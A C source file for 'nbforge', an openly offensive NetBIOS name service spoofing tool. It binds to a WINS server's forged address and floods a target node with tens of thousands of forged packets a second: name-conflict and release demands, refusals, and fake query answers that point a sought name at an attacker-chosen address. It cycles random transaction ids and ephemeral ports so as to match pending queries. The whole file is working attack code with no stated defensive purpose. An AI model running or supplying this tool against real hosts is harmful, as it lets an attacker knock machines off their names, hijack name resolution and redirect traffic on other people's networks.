/* nbforge - sends a node thousands of forged answers and demands a second, in the name of
 * its WINS server: refusals, conflict demands, release demands and answers to queries,
 * with every id there is, to port 137 and to the ports a question may have left from. */
#include "wire/nb_name.h"
#include "wire/ns_packet.h"

#include <arpa/inet.h>
#include <errno.h>
#include <getopt.h>
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

static const char help[] =
    "usage: nbforge [-r RATE] [-d SECONDS] SERVER NODE OWN-NAME SOUGHT-NAME ADDRESS\n"
    "\n"
    "Sends to NODE as if from SERVER: its OWN-NAME is somebody else's, SOUGHT-NAME is "
    "at\n"
    "ADDRESS.  Needs CAP_NET_ADMIN for the false address.  Prints how many were sent.\n"
    "\n"
    "  -r RATE     datagrams a second (30000)\n"
    "  -d SECONDS  how long (10)\n";

#define SECOND_NS UINT64_C(1000000000)
#define SLICE_NS  1000000L

#define FIRST_PORT 32768 /* net.ipv4.ip_local_port_range */
#define PORTS      28232

struct forger {
    struct ow_endpoint server;
    ow_addr node, address;
    struct nb_key own, sought;
    unsigned long rate;
    double seconds;
    uint64_t random;
};

static uint32_t next_random(struct forger *forger)
{
    forger->random ^= forger->random << 13;
    forger->random ^= forger->random >> 7;
    forger->random ^= forger->random << 17;
    return (uint32_t)(forger->random >> 32);
}

/* What is forged; a demand goes to port 137, an answer also elsewhere. */
static const struct {
    uint16_t flags;
    bool own, request, zero_address;
} lies[] = {
    {.flags = 0xAD86, .own = true},                       /* refused: ACT_ERR */
    {.flags = 0xAD87, .own = true, .zero_address = true}, /* conflict demand */
    {.flags = 0x3000, .own = true, .request = true},      /* release demand */
    {.flags = 0x8580, .own = false},                      /* found */
    {.flags = 0xB406, .own = true},                       /* not released */
};

static size_t forge(struct forger *forger, uint64_t number, uint8_t *data, size_t room)
{
    size_t lie = number % (sizeof(lies) / sizeof(lies[0]));
    struct ns_addr entry = {.addr = lies[lie].own ? forger->node : forger->address};
    struct ns_build build = {.id = (uint16_t)next_random(forger),
                             .flags = lies[lie].flags,
                             .key = lies[lie].own ? &forger->own : &forger->sought,
                             .type = NS_TYPE_NB,
                             .ttl = 300000,
                             .addrs = &entry,
                             .addr_count = 1};

    if (lies[lie].zero_address)
        entry.addr = 0;
    return lies[lie].request ? ns_put_request(&build, data, room)
                             : ns_put_response(&build, data, room);
}

static void send_one(struct forger *forger, int fd, uint64_t number)
{
    uint8_t data[NS_DATAGRAM_MAX];
    size_t len = forge(forger, number, data, sizeof(data));
    uint32_t where = next_random(forger);
    uint16_t port = (where & 1) != 0 ? NS_PORT : (uint16_t)(FIRST_PORT + where % PORTS);
    struct sockaddr_in to = {.sin_family = AF_INET,
                             .sin_port = htons(port),
                             .sin_addr.s_addr = htonl(forger->node)};

    /* A port that nobody has answers with an ICMP error, which the next call tells. */
    if (sendto(fd, data, len, MSG_DONTWAIT, (struct sockaddr *)&to, sizeof(to)) < 0)
        (void)sendto(fd, data, len, MSG_DONTWAIT, (struct sockaddr *)&to, sizeof(to));
}

static uint64_t clock_ns(void)
{
    struct timespec ts;

    clock_gettime(CLOCK_MONOTONIC, &ts);
    return (uint64_t)ts.tv_sec * SECOND_NS + (uint64_t)ts.tv_nsec;
}

static uint64_t pour(struct forger *forger, int fd)
{
    uint64_t start = clock_ns(), length = (uint64_t)(forger->seconds * SECOND_NS);
    uint64_t sent = 0, passed;

    while ((passed = clock_ns() - start) < length) {
        uint64_t due = (uint64_t)((double)passed * (double)forger->rate / SECOND_NS);

        for (; sent < due; sent++)
            send_one(forger, fd, sent);
        /* The pause is the thing itself: a rate is slices with nothing between them. */
        nanosleep(&(struct timespec){.tv_nsec = SLICE_NS}, NULL);
    }
    return sent;
}

/* A socket with the server's address and port, which are not ours. */
static int open_socket(struct ow_endpoint server)
{
    struct sockaddr_in own = {.sin_family = AF_INET,
                              .sin_port = htons(server.port),
                              .sin_addr.s_addr = htonl(server.addr)};
    int one = 1, fd = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);

    if (fd < 0)
        return -1;
    if (setsockopt(fd, IPPROTO_IP, IP_TRANSPARENT, &one, sizeof(one)) == 0 &&
        bind(fd, (struct sockaddr *)&own, sizeof(own)) == 0)
        return fd;
    close(fd);
    return -1;
}

static bool take_options(struct forger *forger, int argc, char **argv)
{
    char *end = NULL;
    bool has_suffix;
    int option;

    while ((option = getopt(argc, argv, "r:d:")) != -1) {
        if (option == 'r')
            forger->rate = strtoul(optarg, &end, 10);
        else if (option == 'd')
            forger->seconds = strtod(optarg, &end);
        if (end == NULL || *end != '\0')
            return false;
    }
    return argc - optind == 5 && forger->rate > 0 && forger->seconds > 0 &&
           ow_endpoint_parse(argv[optind], NS_PORT, &forger->server) == OW_OK &&
           ow_addr_parse(argv[optind + 1], &forger->node) == OW_OK &&
           nb_key_parse(argv[optind + 2], &forger->own, &has_suffix) == OW_OK &&
           nb_key_parse(argv[optind + 3], &forger->sought, &has_suffix) == OW_OK &&
           ow_addr_parse(argv[optind + 4], &forger->address) == OW_OK;
}

int main(int argc, char **argv)
{
    struct forger forger = {.rate = 30000, .seconds = 10, .random = 1};
    int fd;

    if (!take_options(&forger, argc, argv)) {
        fputs(help, stderr);
        return 2;
    }
    fd = open_socket(forger.server);
    if (fd < 0) {
        fprintf(stderr, "nbforge: %s\n", strerror(errno));
        return 3;
    }
    printf("sent=%lu seconds=%.3f\n", (unsigned long)pour(&forger, fd), forger.seconds);
    close(fd);
    return 0;
}
